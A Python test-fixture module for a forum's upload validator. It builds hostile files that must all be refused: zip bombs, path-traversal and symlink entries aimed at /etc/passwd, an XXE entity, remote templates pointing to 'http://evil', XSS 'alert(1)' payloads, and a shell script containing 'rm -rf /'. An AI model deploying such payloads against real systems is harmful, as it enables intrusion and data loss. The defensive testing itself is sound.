"""Hostile files, made here and kept nowhere."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from forum.ports.files.kinds import Kind

TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MAIN = {Kind.DOCX: "word/document.xml", Kind.XLSX: "xl/workbook.xml", Kind.PPTX: "ppt/presentation.xml"}


def office(kind: Kind, parts: dict[str, bytes] | None = None, *, comment: bytes = b"") -> bytes:
    """Return the smallest office document of that kind, with further parts."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in ({"[Content_Types].xml": TYPES, MAIN[kind]: b"<main/>"} | (parts or {})).items():
            archive.writestr(name, content)
        archive.comment = comment
    return target.getvalue()


def picture(name: str = "JPEG", size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    """Return a picture."""
    target = io.BytesIO()
    Image.new("RGB", size, (180, 40, 30)).save(target, name, **options)
    return target.getvalue()


def photograph_with_place() -> bytes:
    """Return a JPEG that says where it was taken, with a script after its end."""
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[1] = "N"
    return picture(exif=exif.tobytes()) + b"<script>alert(1)</script>"


def enormous_png() -> bytes:
    """Return a PNG of few bytes that claims 100 megapixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 10_000, 10_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def linked(kind: Kind) -> bytes:
    """Return an office document with a symbolic link inside."""
    target = io.BytesIO(office(kind))
    with zipfile.ZipFile(target, "a") as archive:
        part = zipfile.ZipInfo("word/link.xml")
        part.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(part, "/etc/passwd")
    return target.getvalue()


def lying_about_length(kind: Kind) -> bytes:
    """Return an office document whose directory promises a shorter part than there is."""
    body = bytearray(office(kind, {"word/long.xml": b"<x>" + bytes(range(32, 127)) * 400}))
    entry = body.rindex(b"PK\x01\x02")
    struct.pack_into("<I", body, entry + 24, 10)
    return bytes(body)


def encrypted(kind: Kind) -> bytes:
    """Return an office document whose directory says that a part is encrypted."""
    body = bytearray(office(kind))
    entry = body.rindex(b"PK\x01\x02")
    struct.pack_into("<H", body, entry + 8, 1)
    return bytes(body)


def twice_the_same_name(kind: Kind) -> bytes:
    """Return an office document with two parts that differ in case alone."""
    return office(kind, {MAIN[kind].upper(): b"<other/>"})


def _office_cases(kind: Kind) -> Iterator[tuple[str, bytes]]:
    outside = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil" TargetMode="External"/>'
    turned = b'<Relationship TargetMode="External" Target="http://evil" Type="http://x/oleObject"/>'
    good = office(kind)
    yield "a bomb of one part", office(kind, {"word/media.xml": b" " * (60 * 1024 * 1024)})
    yield "a bomb of many parts", office(kind, {f"word/{n}.bin": bytes(1_048_000) for n in range(210)})
    yield "too many parts", office(kind, {f"word/{n}.xml": b"" for n in range(2001)})
    yield "an archive inside", office(kind, {"word/embeddings/inner.zip": office(kind)})
    yield "an archive inside under another name", office(kind, {"word/picture.png": office(kind)})
    yield "a program inside", office(kind, {"word/embeddings/setup.exe": b"MZ"})
    yield "a path upwards", office(kind, {"../../etc/cron.d/x": b"x"})
    yield "a path upwards with backslashes", office(kind, {"..\\..\\x.xml": b"x"})
    yield "an absolute path", office(kind, {"/etc/passwd": b"x"})
    yield "a drive", office(kind, {"C:/x.xml": b"x"})
    yield "a link", linked(kind)
    yield "macros", office(kind, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield (
        "a macro type",
        office(kind, {"word/x.xml": b"application/vnd.ms-word.document.macroEnabled.main+xml"}),
    )
    yield "controls", office(kind, {"word/activeX/activeX1.bin": b"x"})
    yield (
        "an entity",
        office(kind, {"word/x.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
    )
    yield (
        "an entity behind a megabyte",
        office(kind, {"word/x.xml": bytes(range(32, 127)) * 11_037 + b"<!DOCTYPE a><a/>"}),
    )
    yield "a remote template", office(kind, {"word/_rels/settings.xml.rels": outside})
    yield "a remote object", office(kind, {"word/_rels/document.xml.rels": turned})
    yield "a lie about its length", lying_about_length(kind)
    yield "an encrypted part", encrypted(kind)
    yield "two parts of one name", twice_the_same_name(kind)
    yield "a comment that hides a page", office(kind, comment=b"<script>alert(1)</script>")
    yield "a page in front", b"<html><script>alert(1)</script></html>" + good
    yield "no main part", _plain_archive()
    yield "a cut tail", good[:-30]
    yield "a cut half", good[: len(good) // 2]
    yield "its head alone", b"PK\x03\x04"
    yield "an old binary document", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)


def _plain_archive() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("hello.txt", "hello")
    return target.getvalue()


def cases() -> Iterator[tuple[str, str, bytes]]:
    """Yield (name of the case, file name, content); each must be refused."""
    for kind in (Kind.DOCX, Kind.XLSX, Kind.PPTX):
        for name, content in _office_cases(kind):
            yield f"{kind}: {name}", f"file.{kind}", content
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    html = b"<!doctype html><script>alert(1)</script>"
    disguises = {
        "svg": svg,
        "html": html,
        "program": b"MZ" + bytes(200),
        "elf": b"\x7fELF" + bytes(200),
        "script": b"#!/bin/sh\nrm -rf /\n",
        "gif": b"GIF89a" + bytes(50),
        "zip": _plain_archive(),
        "zeros": bytes(5000),
        "empty": b"",
    }
    for extension in ("pdf", "jpg", "jpeg", "png", "docx", "xlsx", "pptx"):
        for name, content in disguises.items():
            yield f"{name} called {extension}", f"file.{extension}", content
    for extension in (
        "svg",
        "html",
        "htm",
        "exe",
        "js",
        "docm",
        "xlsm",
        "zip",
        "doc",
        "php",
        "pdf.exe",
        "",
    ):
        yield f"extension {extension!r}", f"file.{extension}", b"%PDF-1.7\n%%EOF"
    yield "no extension", "file", b"%PDF-1.7\n%%EOF"
    yield "a png called jpg", "file.jpg", picture("PNG")
    yield "a jpg called png", "file.png", picture("JPEG")
    yield "a hundred megapixels", "file.png", enormous_png()
    yield "thirty megapixels", "file.png", picture("PNG", (6000, 5000))
    yield "a cut jpg", "file.jpg", picture("JPEG", (400, 300))[:900]
    yield "a cut png", "file.png", picture("PNG", (400, 300))[:120]
    yield "the head of a jpg alone", "file.jpg", b"\xff\xd8\xff"
    yield "a moving png", "file.png", _moving_png()
    yield "a pdf without an end", "file.pdf", b"%PDF-1.7\n" + bytes(4000)
    yield "a pdf behind a page", "file.pdf", html + b"%PDF-1.7\n%%EOF"
    yield "a large pdf", "file.pdf", b"%PDF-1.7\n" + bytes(21 * 1024 * 1024) + b"%%EOF"


def _moving_png() -> bytes:
    target = io.BytesIO()
    first, second = (Image.new("RGB", (8, 8), colour) for colour in ("red", "blue"))
    first.save(target, "PNG", save_all=True, append_images=[second])
    return target.getvalue()
